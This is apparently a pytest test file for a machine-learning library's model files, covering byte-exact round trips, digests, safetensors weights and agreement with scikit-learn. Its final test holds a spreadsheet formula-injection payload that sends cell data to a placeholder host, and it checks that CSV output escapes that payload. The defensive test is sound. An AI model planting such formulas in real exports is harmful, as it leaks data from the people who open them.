"""Model files: canonical bytes, faithful round trips, and the same predictions in scikit-learn."""

import csv
import hashlib
import io
import json

import numpy as np
import pandas as pd
import pytest

from potluck.core.errors import DataError, UsageError
from potluck.learning.loops import build
from potluck.learning.models.model import Model as Trained
from potluck.learning.models.model import model
from potluck.learning.models.scoring import table_text
from support.learning.models import mixed, some
from support.learning.sums import HEART, frames, heart, hospitals, number, replaced, run

FRAME = pd.DataFrame(
    {
        "n": [1.0, 11.0, np.nan, 4.5, 7.0],
        "c": ["1.0", "x", "", "weird", "0"],
        "m": [1, 2, 3, 4, -9],
        "other": ["a"] * 5,
    }
)


@pytest.mark.parametrize(
    ("kind", "classes"), [("logistic", None), ("linear", None), ("network", None), ("network", tuple("abc"))]
)
def test_a_model_file_is_read_back_bit_for_bit(tmp_path, kind, classes):
    first = some(kind, classes)
    path = tmp_path / "model.json"
    first.write(path)
    again = Trained.read(path)
    assert np.array_equal(again.weights, first.weights)
    assert again.encoding == first.encoding
    assert again.target == first.target
    assert again.digest() == first.digest() == "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()
    assert np.array_equal(again.predict(FRAME), first.predict(FRAME))
    assert (path.with_suffix(".safetensors").exists()) == (kind == "network")


def test_a_model_file_names_no_time_path_or_protection(tmp_path):
    spec = heart()
    text, _ = run(build(spec), hospitals(spec)).model.files()
    document = json.loads(text)
    assert set(document) == {"format", "kind", "encoding", "target", "coefficients", "network"}
    for word in (b"mask", b"clear", b"202", b"/", b"cleveland"):
        assert word not in text
    assert list(document["coefficients"]) == sorted(document["coefficients"])


def test_equal_weights_give_equal_bytes_and_other_weights_others():
    assert some().files() == some().files()
    other = some()
    changed = Trained(other.kind, other.encoding, other.target, other.weights + 2**-40)
    assert changed.digest() != other.digest()


def test_the_digest_of_a_network_covers_its_weights(tmp_path):
    first = some("network")
    path = tmp_path / "m.json"
    first.write(path)
    beside = path.with_suffix(".safetensors")
    body = bytearray(beside.read_bytes())
    body[-1] ^= 1
    beside.write_bytes(bytes(body))
    with pytest.raises(UsageError, match="not the weights that the model file names"):
        Trained.read(path)
    beside.unlink()
    with pytest.raises(UsageError, match="cannot be read"):
        Trained.read(path)
    changed = Trained(first.kind, first.encoding, first.target, first.weights + 2**-40, first.network)
    assert changed.digest() != first.digest()


def test_the_weights_file_is_safetensors(tmp_path):
    numpy = pytest.importorskip("safetensors.numpy")
    first = some("network")
    first.write(tmp_path / "m.json")
    tensors = numpy.load_file(tmp_path / "m.safetensors")
    assert tensors["layers.0.weight"].shape == (7, 5)
    flat = np.concatenate([tensors[f"layers.{i}.{part}"].ravel() for i in range(3) for part in ("weight", "bias")])
    assert np.array_equal(flat, first.weights)


@pytest.mark.parametrize("text", ["", "{}", "[1]", '{"format": "potluck model 2"}', "\x80"])
def test_what_is_no_model_is_refused(tmp_path, text):
    path = tmp_path / "m.json"
    path.write_text(text, encoding="latin-1")
    with pytest.raises(UsageError, match="is no model file"):
        Trained.read(path)
    with pytest.raises(UsageError, match="no such model file"):
        Trained.read(tmp_path / "absent.json")


def test_coefficients_that_do_not_fit_are_refused(tmp_path):
    path = tmp_path / "m.json"
    some().write(path)
    path.write_text(path.read_text().replace('"c=1"', '"c=7"'))
    with pytest.raises(UsageError, match="do not fit its encoding"):
        Trained.read(path)


def test_coefficients_are_named_and_in_encoded_features():
    found = dict(some().coefficients)
    assert list(found) == ["intercept", "n", "n?", "c=0", "c=1", "c=x", "c?", "m"]
    assert found["intercept"] == some().weights[0]


def test_scores_are_the_encoded_rows_times_the_coefficients():
    found = some()
    b, n, n_, _c0, c1, cx, c_, m = found.weights
    margins = [b - 0.8 * n + c1 + 0.2 * m, b + n + cx + 0.4 * m, b + n_ + c_ + 0.6 * m, b - 0.1 * n + 0.8 * m]
    assert found.scores(FRAME)[:4] == pytest.approx(1 / (1 + np.exp(-np.array(margins))))
    probabilities = found.predict_proba(FRAME)
    assert probabilities.sum(axis=1) == pytest.approx(np.ones(5))
    assert probabilities[:, 1].tolist() == found.scores(FRAME).tolist()


def test_training_and_scoring_encode_alike():
    spec = heart()
    table = hospitals(spec)["cleveland"]
    trained = run(build(spec), {"cleveland": table}).model
    raw = pd.read_csv(HEART / "processed.cleveland.data", header=None, names=list(spec.data.columns))
    assert np.array_equal(trained.features(raw), table.features)


def test_rows_that_the_plan_drops_have_no_score_and_refused_ones_stop():
    frame = FRAME.assign(m=[1, np.nan, 3, 4, 5])
    found = some()
    scores = found.scores(frame)
    assert np.isnan(scores).tolist() == [False, True, False, False, False]
    columns, table = found.scored(frame)
    assert columns == ("score",)
    assert table[1] == ("",)
    assert table[0] == (scores[0],)
    strict = mixed()
    columns = {**strict.data.columns, "n": number(0, 10)}
    strict = model(replaced(strict, data=replaced(strict.data, columns=columns)), np.zeros(7))
    with pytest.raises(DataError, match="'n' has no value in 1 row"):
        strict.scores(FRAME)
    with pytest.raises(DataError, match="no column 'n'"):
        found.scores(FRAME.drop(columns="n"))
    with pytest.raises(DataError, match="'n', line 2: nan, inf or text"):
        found.scores(FRAME.assign(n=["1", "31337x", "", "1", "1"]))


def test_rows_that_the_plan_drops_are_predicted_as_nothing():
    frame = FRAME.assign(m=[1, np.nan, 3, 4, 5])
    for found in (some(), some("linear"), some("network"), some("network", tuple("abc"))):
        whole, predicted = found.predict(FRAME), found.predict(frame)
        assert pd.isna(predicted).tolist() == [False, True, False, False, False]
        assert pd.isna(found.scores(frame)).reshape(5, -1).all(axis=1).tolist() == pd.isna(predicted).tolist()
        assert not pd.isna(whole).any()
        keep = [0, 2]
        assert predicted[keep].tolist() == whole[keep].tolist()
    assert some().predict(FRAME).dtype == np.int64


def test_a_regression_predicts_in_its_own_units_and_has_no_probabilities():
    found = some("linear")
    scaled = found.features(FRAME) @ found.weights[1:] + found.weights[0]
    assert found.predict(FRAME) == pytest.approx(100 + (scaled + 1) * 100)
    with pytest.raises(UsageError, match="no probabilities"):
        found.predict_proba(FRAME)


@pytest.mark.parametrize(
    ("kind", "classes"), [("logistic", None), ("linear", None), ("network", None), ("network", tuple("abc"))]
)
def test_the_scikit_learn_pipeline_predicts_the_same(kind, classes):
    found = some(kind, classes)
    pipeline = found.to_sklearn()
    if kind == "linear":
        assert np.allclose(pipeline.predict(FRAME), found.predict(FRAME), rtol=1e-12, atol=1e-10)
    else:
        assert np.abs(pipeline.predict_proba(FRAME) - found.predict_proba(FRAME)).max() < 1e-12
        assert pipeline.predict(FRAME).tolist() == found.predict(FRAME).tolist()
    assert np.abs(pipeline[0].transform(FRAME) - found.features(FRAME)).max() < 1e-15


def test_the_scikit_learn_pipeline_of_the_heart_model():
    spec = heart()
    found = run(build(spec), hospitals(spec)).model
    raw = pd.read_csv(HEART / "processed.va.data", header=None, names=list(spec.data.columns), na_values="?").dropna(
        subset=["trestbps", "chol", "fbs", "restecg", "thalach", "exang", "oldpeak"]
    )
    assert np.abs(found.to_sklearn().predict_proba(raw) - found.predict_proba(raw)).max() < 1e-12
    assert found.to_sklearn()[1].coef_.shape == (1, 18)


def test_square_networks_have_no_scikit_learn_twin():
    plan = mixed("network")
    plan = replaced(plan, model=replaced(plan.model, activation="square", layers=(2,)))
    with pytest.raises(UsageError, match="square"):
        model(plan, np.zeros(7 * 2 + 2 + 3)).to_sklearn()


def test_classes_are_scored_by_name():
    found = some("network", tuple("abc"))
    columns, table = found.scored(FRAME)
    assert columns == ("a", "b", "c")
    assert np.allclose(np.sum(table, axis=1), 1)
    assert set(found.predict(FRAME)) <= set("abc")


def test_frames_of_texts_score_like_typed_ones():
    spec = mixed()
    frames(spec, FRAME.assign(y=["0", "1", "0", "1", "1"]))
    texts = FRAME.astype(object).where(FRAME.notna(), "").astype(str)
    assert np.array_equal(some().scores(texts), some().scores(FRAME))


def test_files_without_a_header_are_scored_in_the_plans_column_order(tmp_path):
    spec = heart()
    tables = hospitals(spec)
    found = run(build(spec), tables).model
    path = HEART / "processed.va.data"
    scores = found.scores(path)
    assert len(scores) == 200
    assert np.allclose(scores[~np.isnan(scores)], found.scored_features(tables["va"].features), rtol=0, atol=1e-14)
    named = pd.read_csv(path, header=None, names=list(spec.data.columns), dtype=str)
    without = tmp_path / "without.csv"
    named.drop(columns="num").to_csv(without, header=False, index=False)
    headed = tmp_path / "headed.csv"
    named.to_csv(headed, index=False)
    for source in (without, headed, named, pd.read_csv(path, header=None)):
        assert np.array_equal(found.scores(source), scores, equal_nan=True)
    with pytest.raises(DataError, match="has 9 columns where 14 are expected"):
        found.scores(np.zeros((2, 9)))


def test_no_spreadsheet_takes_the_scores_of_others_models_for_formulas():
    """The names of classes are their author's, and stand in a file that the client may open with any program."""
    evil = '=HYPERLINK("https://192.0.2.1/?"&A2)'
    rows = list(csv.reader(io.StringIO(table_text((evil, "@x", "-1", "b"), [(0.5, -0.5, float("nan"), evil)]))))
    assert rows == [["row", f"'{evil}", "'@x", "-1", "b"], ["0", "0.5", "-0.5", "", f"'{evil}"]]
